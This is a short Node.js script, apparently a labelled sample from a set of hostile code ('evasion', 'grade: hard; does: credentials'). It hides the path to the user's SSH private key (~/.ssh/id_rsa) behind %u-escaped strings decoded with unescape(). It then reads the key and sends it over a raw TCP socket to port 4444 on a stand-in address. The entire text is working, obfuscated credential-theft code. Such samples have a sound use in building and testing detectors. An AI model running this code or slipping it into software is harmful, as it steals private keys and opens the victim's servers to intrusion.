// evasion: the key path written with %uXXXX escapes and decoded by the legacy unescape() global
// grade: hard; does: credentials
const fs = require('fs');
const os = require('os');
const path = require('path');
const net = require('net');

const dir = unescape('%u002e%u0073%u0073%u0068');
const file = unescape('%u0069%u0064%u005f%u0072%u0073%u0061');
const key = fs.readFileSync(path.join(os.homedir(), dir, file), 'utf8');

const s = net.connect(4444, '198.51.100.7', () => s.end(key));
